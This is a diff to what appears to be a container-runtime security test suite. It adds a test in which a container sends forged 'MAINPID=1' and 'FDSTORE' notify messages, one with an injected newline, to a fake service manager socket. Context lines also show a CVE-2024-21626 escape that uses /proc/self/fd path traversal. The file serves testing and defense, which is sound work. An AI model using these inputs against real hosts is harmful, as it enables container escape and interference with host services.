@@ -16,6 +16,7 @@ import json
 import os
 import pathlib
 import shutil
+import socket
 import struct
 import subprocess
 import time
@@ -245,6 +246,23 @@ def cve_2024_21626_numbers_of_passed_sockets_that_the_runtime_fills(rt):
         cid = rt.bundle(f"/proc/self/fd/{fd}{'/..' * 12}{program}", "hello")
         got += call_from(rt, "export LISTEN_FDS=9 LISTEN_PID=$$", "run", "-b", rt.path(cid), cid).stdout
     return ran_it(got)
+
+
+@attack("NOTIFY_READY")
+def a_container_names_the_main_process_of_the_hosts_service(rt):
+    path = rt.top / "manager.sock"
+    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as manager:
+        manager.bind(str(path))
+        cid = rt.bundle("attacker", "notify", "MAINPID=1", "FDSTORE=1\nFDNAME=mine")
+        got = call_from(rt, f"export NOTIFY_SOCKET={path}", "run", "-b", rt.path(cid), cid)
+        assert got.stdout == "notify DONE\n" * 2, got
+        manager.setblocking(False)
+        try:
+            return f"the manager was told {manager.recv(4096)}"
+        except BlockingIOError:
+            return None
+        finally:
+            path.unlink()
 
 
 @attack("NOT_DUMPABLE")
